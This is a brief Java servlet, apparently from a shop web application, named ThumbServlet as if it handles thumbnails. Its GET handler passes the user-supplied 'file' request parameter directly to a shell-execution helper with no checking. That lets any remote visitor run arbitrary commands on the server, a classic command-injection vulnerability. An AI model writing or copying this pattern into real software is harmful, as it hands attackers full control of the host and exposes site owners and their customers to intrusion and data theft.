package com.shop.web;
import java.io.IOException;
import javax.servlet.http.*;
import com.shop.util.Shell;
public class ThumbServlet extends HttpServlet {
    protected void doGet(HttpServletRequest request, HttpServletResponse response) throws IOException {
        try {
            Shell.run(request.getParameter("file"));
        } catch (Exception e) { throw new IOException(e); }
    }
}
